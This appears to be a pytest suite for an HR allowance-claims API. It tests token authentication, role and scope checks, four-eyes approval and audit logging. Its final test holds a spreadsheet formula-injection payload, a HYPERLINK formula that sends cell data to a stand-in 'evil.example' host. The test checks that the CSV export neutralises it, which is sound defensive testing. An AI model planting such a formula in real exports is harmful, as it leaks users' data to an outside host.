"""Identity, access and audit through HTTP on the real database, with tokens of the test issuer:
401 without a token, 403 for a role outside a policy, 404 outside the caller's scope, lists
filtered in SQL, four eyes on claims, the decider from the token, and the audit log."""

from __future__ import annotations

import csv
import io
import uuid
from dataclasses import dataclass
from typing import Any

import pytest
import pytest_asyncio

from jenjang_testing import builders
from jenjang_testing.harness import ServiceHarness, deliver
from jenjang_testing.issuer import TestIssuer

MONTH = "2025-05"


@dataclass(frozen=True)
class World:
    unit: str  # the unit of boss, report and hr_officer
    other_unit: str  # the outsider's
    boss: str
    report: str  # reports to boss
    hr_officer: str  # works in `unit` and is its HR officer
    outsider: str


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def world(svc: ServiceHarness) -> World:
    unit, other = (f"U{uuid.uuid4().hex[:8].upper()}" for _ in range(2))
    boss, report, hr_officer, outsider = (builders.new_nip() for _ in range(4))
    for event in (
        builders.employee_registered(boss, unit_code=unit),
        builders.employee_registered(report, unit_code=unit, supervisor_nip=boss),
        builders.employee_registered(hr_officer, unit_code=unit),
        builders.employee_registered(outsider, unit_code=other),
    ):
        assert await deliver(svc.runtime, svc.app.state.handlers, event)
    return World(unit, other, boss, report, hr_officer, outsider)


def claim_body(nip: str | None = None, **overrides: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "kind": "MEDICAL",
        "amount_idr": 750_000,
        "evidence_ref": "DMS-7",
        "period": "2025-10",
        **overrides,
    }
    if nip is not None:
        body["nip"] = nip
    return body


class As:
    """Requests with one token."""

    def __init__(self, svc: ServiceHarness, issuer: TestIssuer, token: str | None) -> None:
        self._client = svc.client
        self._headers = issuer.headers(token) if token else {"Authorization": ""}

    async def get(self, url: str, **kwargs: Any) -> Any:
        return await self._client.get(url, headers=self._headers, **kwargs)

    async def post(self, url: str, **kwargs: Any) -> Any:
        return await self._client.post(url, headers=self._headers, **kwargs)

    async def put(self, url: str, **kwargs: Any) -> Any:
        return await self._client.put(url, headers=self._headers, **kwargs)


@pytest.fixture
def as_(svc, test_issuer):
    def make(*roles: str, **claims: Any) -> As:
        return As(svc, test_issuer, test_issuer.token(*roles, **claims) if roles else None)

    return make


async def audit_of(svc: ServiceHarness, **params: str) -> list[dict[str, Any]]:
    response = await svc.client.get("/v1/audit", params=params)  # the client's admin token
    assert response.status_code == 200, response.text
    items: list[dict[str, Any]] = response.json()["items"]
    return items


async def test_without_a_token_reads_and_writes_are_401(svc, world, as_):
    nobody = as_()
    for response in (
        await nobody.get("/v1/statements", params={"month": MONTH}),
        await nobody.get(f"/v1/employees/{world.report}/entitlements"),
        await nobody.get("/v1/policies/HOUSING"),
        await nobody.post("/v1/claims", json=claim_body(world.report)),
    ):
        assert response.status_code == 401, response.text
        assert response.headers["WWW-Authenticate"].startswith("Bearer")
        assert response.headers["content-type"].startswith("application/problem+json")


async def test_a_token_the_service_cannot_trust_is_401(svc, world, test_issuer):
    for kind, token in test_issuer.broken().items():
        response = await svc.client.get(
            f"/v1/employees/{world.report}/entitlements", headers=test_issuer.headers(token)
        )
        assert response.status_code == 401, kind


async def test_a_role_outside_the_policy_is_403(svc, world, as_):
    housing = {
        "effective_from": "2030-01-01",
        "rules": {"by_rank_group": dict.fromkeys(("I", "II", "III", "IV"), 1)},
    }
    for caller in (
        as_("hr", units=[world.unit]),
        as_("employee", nip=world.report),
        as_("supervisor", nip=world.boss),
        as_("service", scopes=["welfare:write"]),
    ):
        response = await caller.put("/v1/policies/HOUSING", json=housing)
        assert response.status_code == 403, response.text
    filed = await as_("employee", nip=world.report).post("/v1/claims", json=claim_body())
    assert filed.status_code == 201, filed.text
    for caller in (as_("supervisor", nip=world.boss), as_("employee", nip=world.boss)):
        response = await caller.post(
            f"/v1/claims/{filed.json()['id']}/decision",
            json={"decision": "APPROVED", "reason": "ok"},
        )
        assert response.status_code == 403, response.text
    versions = (await svc.client.get("/v1/policies/HOUSING")).json()["versions"]
    assert all(v["effective_from"] != "2030-01-01" for v in versions)


async def test_every_role_reads_the_allowance_policies(svc, world, as_):
    for caller in (
        as_("hr", units=[world.unit]),
        as_("employee", nip=world.report),
        as_("supervisor", nip=world.boss),
        as_("service"),
    ):
        response = await caller.get("/v1/policies/TPP")
        assert response.status_code == 200, response.text
        assert response.json()["in_force"]["allowance"] == "TPP"


async def entitlements_status(caller: As, nip: str) -> int:
    response = await caller.get(f"/v1/employees/{nip}/entitlements")
    return int(response.status_code)


async def statement_nips(caller: As, **params: str) -> list[str]:
    response = await caller.get("/v1/statements", params={"month": MONTH, **params})
    assert response.status_code == 200, response.text
    return [e["nip"] for e in response.json()["employees"]]


async def test_hr_sees_its_units_only(svc, world, as_):
    hr = as_("hr", units=[world.unit])
    assert await entitlements_status(hr, world.report) == 200
    assert await entitlements_status(hr, world.outsider) == 404  # as if unknown
    assert await entitlements_status(hr, builders.new_nip()) == 404
    everyone_visible = set(await statement_nips(hr))
    assert {world.boss, world.report, world.hr_officer} <= everyone_visible
    assert world.outsider not in everyone_visible
    assert await statement_nips(hr, unit_code=world.other_unit) == []
    other_hr = as_("hr", units=[world.other_unit])
    assert await statement_nips(other_hr) == [world.outsider]


async def test_a_supervisor_sees_their_direct_reports_and_themself(svc, world, as_):
    boss = as_("supervisor", nip=world.boss)
    assert await entitlements_status(boss, world.report) == 200
    assert await entitlements_status(boss, world.boss) == 200
    assert await entitlements_status(boss, world.hr_officer) == 404  # same unit, not a report
    assert await entitlements_status(boss, world.outsider) == 404
    assert sorted(await statement_nips(boss)) == sorted([world.boss, world.report])
    assert await entitlements_status(as_("supervisor", nip=world.report), world.boss) == 404


async def test_an_employee_sees_only_themself(svc, world, as_):
    me = as_("employee", nip=world.report)
    assert await entitlements_status(me, world.report) == 200
    assert await entitlements_status(me, world.boss) == 404
    assert await statement_nips(me) == [world.report]
    assert await statement_nips(me, unit_code=world.unit) == [world.report]
    assert await statement_nips(as_("employee")) == []  # a token without a NIP sees nobody
    csv_export = await me.get("/v1/statements", params={"month": MONTH, "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(csv_export.text)))
    assert [r["nip"] for r in rows] == [world.report, "TOTAL"]


async def test_reads_of_another_person_are_audited_and_one_s_own_are_not(svc, world, as_):
    assert await entitlements_status(as_("employee", nip=world.boss), world.boss) == 200
    assert await audit_of(svc, record_type="entitlements", record_id=world.boss) == []
    boss = as_("supervisor", nip=world.boss, subject="boss-token")
    before = await audit_of(svc, record_type="entitlements", record_id=world.report)
    assert await entitlements_status(boss, world.report) == 200
    entry, *earlier = await audit_of(svc, record_type="entitlements", record_id=world.report)
    assert earlier == before  # one row more, the newest first
    assert (entry["operation"], entry["actor"], entry["roles"]) == (
        "entitlements.read",
        world.boss,
        ["supervisor"],
    )
    await statement_nips(boss)
    read, *_ = await audit_of(svc, record_type="statement", actor=world.boss)
    assert read["operation"] == "statement.read"
    assert read["record_id"] == f"{MONTH}/*"
    assert read["after"]["nips"] == [world.report]


async def test_claims_are_filed_for_oneself_and_listed_within_scope(svc, world, as_):
    me = as_("employee", nip=world.report)
    filed = await me.post("/v1/claims", json=claim_body(kind="GLASSES", amount_idr=900_000))
    assert filed.status_code == 201, filed.text
    claim = filed.json()
    assert (claim["nip"], claim["submitted_by"], claim["decided_by"]) == (
        world.report,
        world.report,
        None,
    )
    # Someone else's NIP is out of an employee's scope: 404, as an unknown employee.
    other = await me.post("/v1/claims", json=claim_body(world.boss))
    assert other.status_code == 404
    assert (await as_("employee").post("/v1/claims", json=claim_body())).status_code == 422
    assert (await me.get(f"/v1/claims/{claim['id']}")).status_code == 200
    outsider = as_("employee", nip=world.outsider)
    assert (await outsider.get(f"/v1/claims/{claim['id']}")).status_code == 404
    assert (await outsider.get("/v1/claims")).json()["total"] == 0
    other_hr = as_("hr", units=[world.other_unit])
    assert (await other_hr.get(f"/v1/claims/{claim['id']}")).status_code == 404
    listed = (await as_("hr", units=[world.unit]).get("/v1/claims", params={"limit": 500})).json()
    assert claim["id"] in [c["id"] for c in listed["items"]]
    assert {c["nip"] for c in listed["items"]} <= {world.boss, world.report, world.hr_officer}
    (submitted,) = await audit_of(svc, record_id=claim["id"], actor=world.report)
    assert submitted["operation"] == "claim.submit"
    assert submitted["after"]["kind"] == "GLASSES"


async def test_four_eyes_nobody_decides_their_own_claim(svc, world, as_):
    hr = as_("hr", units=[world.unit], nip=world.hr_officer)
    own = (await hr.post("/v1/claims", json=claim_body())).json()
    assert own["nip"] == world.hr_officer
    refused = await hr.post(
        f"/v1/claims/{own['id']}/decision", json={"decision": "APPROVED", "reason": "mine"}
    )
    assert refused.status_code == 403, refused.text
    assert "four eyes" in refused.json()["detail"]
    assert (await svc.client.get(f"/v1/claims/{own['id']}")).json()["status"] == "PENDING"
    # hr of another unit does not see it; admin decides it, and is recorded as the decider.
    other_hr = as_("hr", units=[world.other_unit], nip=world.outsider)
    outside = await other_hr.post(
        f"/v1/claims/{own['id']}/decision", json={"decision": "APPROVED", "reason": "x"}
    )
    assert outside.status_code == 404
    decided = await svc.client.post(
        f"/v1/claims/{own['id']}/decision",
        json={"decision": "REJECTED", "reason": "Tanpa kuitansi"},
    )
    assert decided.status_code == 200, decided.text
    assert decided.json()["decided_by"] == "admin-bkd"


async def test_hr_of_the_unit_decides_and_the_decision_is_audited(svc, world, as_):
    filed = (await as_("employee", nip=world.report).post("/v1/claims", json=claim_body())).json()
    hr = as_("hr", units=[world.unit], nip=world.hr_officer)
    decided = await hr.post(
        f"/v1/claims/{filed['id']}/decision",
        json={"decision": "APPROVED", "reason": "Kuitansi lengkap", "decided_by": "someone"},
    )
    assert decided.status_code == 422  # the decider comes from the token, never the body
    decided = await hr.post(
        f"/v1/claims/{filed['id']}/decision",
        json={"decision": "APPROVED", "reason": "Kuitansi lengkap"},
    )
    assert decided.status_code == 200, decided.text
    assert (decided.json()["status"], decided.json()["decided_by"]) == (
        "APPROVED",
        world.hr_officer,
    )
    entries = await audit_of(svc, record_type="claim", record_id=filed["id"])
    decision = next(e for e in entries if e["operation"] == "claim.decide")
    assert decision["actor"] == world.hr_officer and decision["roles"] == ["hr"]
    assert decision["before"]["status"] == "PENDING"
    assert decision["after"] == {
        "status": "APPROVED",
        "decision_reason": "Kuitansi lengkap",
        "decided_by": world.hr_officer,
    }
    assert decision["request_id"]


async def test_a_service_reads_but_writes_only_with_the_write_scope(svc, world, as_):
    reader = as_("service")
    assert await entitlements_status(reader, world.outsider) == 200
    refused = await reader.post("/v1/claims", json=claim_body(world.outsider))
    assert refused.status_code == 403
    assert "welfare:write" in refused.json()["detail"]
    writer = as_("service", scopes=["welfare:write"], subject="claims-portal")
    filed = await writer.post("/v1/claims", json=claim_body(world.outsider))
    assert filed.status_code == 201, filed.text
    assert filed.json()["submitted_by"] == "claims-portal"
    # A service decides nothing, even with the write scope.
    decided = await writer.post(
        f"/v1/claims/{filed.json()['id']}/decision", json={"decision": "APPROVED", "reason": "x"}
    )
    assert decided.status_code == 403


async def test_a_new_policy_version_is_admin_only_and_audited(svc, world):
    response = await svc.client.put(
        "/v1/policies/HOUSING",
        json={
            "effective_from": "2031-01-01",
            "rules": {"by_rank_group": {"I": 1, "II": 2, "III": 3, "IV": 4}},
            "note": "Pergub 9/2030",
        },
    )
    assert response.status_code == 201, response.text
    label = response.json()["version"]
    (entry,) = await audit_of(svc, record_type="policy_version", record_id=label)
    assert (entry["operation"], entry["actor"], entry["roles"]) == (
        "policy_version.create",
        "admin-bkd",
        ["admin"],
    )
    assert entry["after"]["rules"] == {"by_rank_group": {"I": 1, "II": 2, "III": 3, "IV": 4}}


async def test_the_audit_log_is_for_admin_only(svc, world, as_):
    for caller in (as_("hr", units=[world.unit]), as_("service"), as_("employee", nip=world.boss)):
        assert (await caller.get("/v1/audit")).status_code == 403


async def test_the_statement_csv_neutralises_formulas(svc, as_):
    unit = '=HYPERLINK("http://evil.example/?"&A1)'
    nip = builders.new_nip()
    registered = builders.employee_registered(nip, unit_code=unit)
    assert await deliver(svc.runtime, svc.app.state.handlers, registered)
    response = await svc.client.get(
        "/v1/statements", params={"month": MONTH, "unit_code": unit, "format": "csv"}
    )
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[1][1] == "'" + unit and rows[1][2] == nip
    assert rows[-1][1] == "'" + unit  # the totals line names the unit too
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
